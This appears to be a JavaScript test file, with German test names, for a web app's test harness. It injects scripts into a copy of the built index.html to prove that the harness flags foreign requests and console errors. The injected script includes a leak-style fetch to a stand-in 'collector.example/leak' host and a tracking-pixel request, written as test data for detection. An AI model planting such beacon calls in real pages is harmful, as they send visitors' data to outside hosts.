// Tests of the harness itself: the shared assertions must really fail on a page that leaks.

import assert from 'node:assert/strict';
import fs from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { test } from 'node:test';
import {
  DIST, assertNoConsoleErrors, assertNoForeignRequests, foreignRequests, openApp, waitForApp,
} from './harness.mjs';

/** A copy of the built app with `script` injected at the end of index.html. */
async function brokenDist(t, script) {
  const dir = await fs.mkdtemp(path.join(os.tmpdir(), 'lagebild-broken-'));
  t.after(() => fs.rm(dir, { recursive: true, force: true }));
  await fs.cp(DIST, dir, { recursive: true });
  const index = path.join(dir, 'index.html');
  const html = await fs.readFile(index, 'utf8');
  await fs.writeFile(index, html.replace('</body>', `<script>${script}</script></body>`));
  return dir;
}

async function until(condition, timeoutMs = 10_000) {
  const start = Date.now();
  while (!condition()) {
    if (Date.now() - start > timeoutMs) return;
    await new Promise((r) => setTimeout(r, 50));
  }
}

test('eine Seite, die fremde Hosts anfragt, lässt die Prüfung scheitern', async (t) => {
  const root = await brokenDist(t, `
    fetch('http://collector.example/leak?name=x').catch(() => {});
    new Image().src = 'https://cdn.example/pixel.gif';
    fetch('./nicht-im-build.json').catch(() => {});
  `);
  const session = await openApp({ root });
  t.after(() => session.close());
  await waitForApp(session);
  await until(() => foreignRequests(session).length >= 5);

  // The resolver rule really routed the foreign host to our server, which recorded it.
  assert.ok(
    session.server.requests.some((r) => r.host === 'collector.example' && r.url.startsWith('/leak')),
    'Der Testserver hat die Anfrage an collector.example nicht gesehen',
  );
  // The TLS handshake for https://cdn.example arrived as a non-HTTP connection.
  assert.ok(session.server.requests.some((r) => r.host === '(keine HTTP-Verbindung)'));
  assert.throws(() => assertNoForeignRequests(session), (err) => {
    assert.match(err.message, /collector\.example\/leak/);
    assert.match(err.message, /cdn\.example\/pixel\.gif/);
    assert.match(err.message, /nicht-im-build\.json/);
    return true;
  });
});

test('eine Seite mit Konsolenfehler lässt die Prüfung scheitern', async (t) => {
  const root = await brokenDist(t, `console.error('absichtlicher Fehler');`);
  const session = await openApp({ root });
  t.after(() => session.close());
  await waitForApp(session);
  await until(() => session.consoleErrors.length > 0);
  assert.throws(() => assertNoConsoleErrors(session), /absichtlicher Fehler/);
  assertNoForeignRequests(session);
});
